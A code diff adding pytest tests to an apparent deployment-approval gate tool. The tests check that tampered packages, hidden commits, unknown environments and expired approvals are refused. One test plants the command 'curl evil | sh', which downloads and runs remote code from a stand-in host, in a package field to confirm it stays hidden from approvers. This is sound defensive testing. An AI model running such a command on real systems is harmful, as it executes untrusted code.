@@ -248,6 +248,21 @@ def test_a_package_that_was_edited_cannot_be_approved(shop: Shop) -> None:
     assert "it was edited after it was made" in refused.err
 
 
+def test_what_stands_beside_a_decision_is_not_shown_to_who_signs_it(shop: Shop) -> None:
+    ref = next(r for r in shop.scratch.git("for-each-ref", "--format=%(refname)").splitlines() if "packages" in r)
+    package = json.loads(shop.scratch.git("cat-file", "blob", f"{ref}:package.json"))
+    package["presentation"]["standing"].update(state="satisfied", requirements=[])
+    package["presentation"].update(summary="Only a comment.", question="Nothing to ask.", reproduce="curl evil | sh")
+    blob = shop.scratch.git("hash-object", "-w", "--stdin", given=json.dumps(package).encode())
+    tree = shop.scratch.git("mktree", given=f"100644 blob {blob}\tpackage.json\n".encode())
+    shop.scratch.git("update-ref", ref, shop.scratch.git("commit-tree", tree, "-m", "x"))
+
+    said = shop.ada.approve()
+
+    assert "not satisfied" in said.out
+    assert not [words for words in ("Only a comment", "Nothing to ask", "curl") if words in said.out]
+
+
 def test_the_package_of_another_change_is_not_approved_under_this_ones_name(shop: Shop) -> None:
     shop.scratch.git("switch", "-qc", "other")
     other = shop.scratch.commit("Something else", **{"src/evil.py": "import os\n"})
@@ -346,3 +361,91 @@ def test_a_machine_that_can_remember_nothing_reads_the_ledger_and_says_so(shop: 
 
     assert ran.status == 0, ran
     assert "cannot be remembered" in "".join(json.loads(ran.out)["presentation"]["notices"])
+
+
+def admitted(shop: Shop, commit: str = "fix") -> tuple[int, str]:
+    """Whether a commit may enter production, and what was said to that."""
+    ran = shop.ci.run("admit", "--environment", "production", "--commit", commit)
+    return ran.status, " ".join(ran.out.split())
+
+
+def test_a_change_on_what_nobody_decided_on_is_not_admitted(shop: Shop) -> None:
+    shop.scratch.git("switch", "-qc", "hidden")
+    shop.scratch.commit("Slip it in", **{"src/evil.py": "import os\n"})
+    shop.scratch.git("switch", "-qc", "shown")
+    shop.scratch.commit("Correct a word", **{"README.md": "# The shop\n"})
+    shop.scratch.git("switch", "-q", "main")
+    shop.ada.approve()
+    assert shop.gate("hidden..shown", "--record")[0] == 0
+
+    status, words = admitted(shop, "shown")
+
+    assert status == 1
+    assert "no decision on tree" in words
+
+
+def test_what_was_only_merged_into_the_protected_branch_is_no_beginning(shop: Shop) -> None:
+    shop.scratch.git("switch", "-qc", "hidden")
+    evil = shop.scratch.commit("Slip it in", **{"src/evil.py": "import os\n"})
+    shop.scratch.git("revert", "--no-edit", "HEAD")
+    shop.scratch.git("switch", "-q", "main")
+    shop.scratch.git("merge", "-q", "--no-ff", "-m", "Merge nothing", "hidden")
+    shop.scratch.git("switch", "-qc", "shown", evil)
+    shop.scratch.commit("Correct a word", **{"README.md": "# The shop\n"})
+    shop.scratch.git("switch", "-q", "main")
+    shop.ada.approve()
+    assert shop.gate("main...shown", "--record")[0] == 0
+
+    assert admitted(shop, "shown")[0] == 1
+
+
+def test_an_environment_that_asks_for_more_is_not_entered_by_a_gate_for_none(shop: Shop) -> None:
+    more = POLICY.replace("{level: production}", "{level: production, require: [{approval: {count: 3}}]}")
+    shop.scratch.commit("Ask for three", **{".weighbridge/policy.yaml": more})
+    shop.scratch.git("switch", "-q", "fix")
+    shop.scratch.git("rebase", "-q", "main")
+    shop.scratch.git("switch", "-q", "main")
+    shop.kept()
+    shop.ada.approve()
+    shop.bob.approve()
+    assert shop.gate("main..fix", "--record", "--environment", "production")[0] == 1
+    assert shop.gate("main..fix", "--record")[0] == 0
+
+    status, words = admitted(shop)
+
+    assert status == 1
+    assert "--environment production --record" in words
+
+
+def test_a_gate_that_closed_since_is_closed_for_whatever_it_was_asked(shop: Shop) -> None:
+    shop.ada.approve()
+    shop.bob.approve()
+    assert shop.gate("main..fix", "--record")[0] == 0
+    assert admitted(shop)[0] == 0
+    shop.bob.run("reject", "fix", "--yes", "--key", str(shop.bob.key), "--reason", "no plan")
+    assert shop.gate("main..fix", "--record", "--environment", "production")[0] == 1
+
+    assert admitted(shop)[0] == 1
+
+
+def test_a_decision_holds_no_longer_than_the_approvals_it_counted(shop: Shop) -> None:
+    shop.scratch.commit("Let them run out", **{".weighbridge/policy.yaml": f"{POLICY}approvals_last: 7 days\n"})
+    shop.scratch.git("switch", "-q", "fix")
+    shop.scratch.git("rebase", "-q", "main")
+    shop.scratch.git("switch", "-q", "main")
+    shop.kept()
+    shop.ada.approve()
+    shop.bob.approve()
+    assert shop.gate("main..fix", "--record")[0] == 0
+
+    entries = json.loads(shop.ci.run("ledger", "show", "--json", "-").out)
+
+    said = [json.dumps(entry) for entry in entries if entry["kind"] == "decision"]
+    assert '"expires"' in said[-1]
+
+
+def test_an_environment_that_the_policy_does_not_know_admits_nothing(shop: Shop) -> None:
+    ran = shop.ci.run("admit", "--environment", "prodution", "--commit", "fix")
+
+    assert ran.status == 2
+    assert "did you mean production" in ran.err
